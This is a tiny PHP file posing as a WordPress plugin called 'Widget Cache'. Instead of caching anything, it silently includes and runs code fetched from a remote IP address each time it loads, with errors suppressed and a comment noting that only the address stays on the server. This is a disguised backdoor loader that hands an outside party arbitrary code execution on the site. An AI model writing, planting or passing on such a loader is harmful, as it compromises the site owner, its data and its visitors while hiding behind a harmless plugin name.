<?php
/* Plugin Name: Widget Cache */
// The code is included straight from a remote host (allow_url_include on): nothing but the
// address stays on this server.
if (!defined('WC_LOADED')) {
    define('WC_LOADED', 1);
    @include /* cache */ ('http://203.0.113.41/w/cache.txt');
}
